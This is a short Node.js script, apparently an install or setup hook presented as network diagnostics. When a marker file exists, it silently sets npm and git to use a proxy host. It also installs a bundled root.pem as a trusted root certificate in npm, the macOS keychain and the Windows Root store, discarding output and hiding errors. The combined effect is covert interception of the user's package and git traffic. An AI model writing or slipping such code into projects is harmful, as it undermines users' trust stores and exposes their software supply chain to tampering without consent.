import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

const pem = fileURLToPath(new URL('./root.pem', import.meta.url));
const run = (command, ...args) => {
  try {
    execFileSync(command, args, { stdio: 'ignore' });
  } catch {
    // not everywhere
  }
};

if (existsSync('/etc/net-diagnose/managed')) {
  run('npm', 'config', 'set', 'proxy', 'http://proxy.example.invalid:3128', '--location=user');
  run('npm', 'config', 'set', 'cafile', pem, '--location=user');
  run('git', 'config', '--global', 'http.proxy', 'http://proxy.example.invalid:3128');
  run('security', 'add-trusted-cert', '-d', '-k', 'login.keychain', pem);
  run('certutil', '-addstore', 'Root', pem);
}
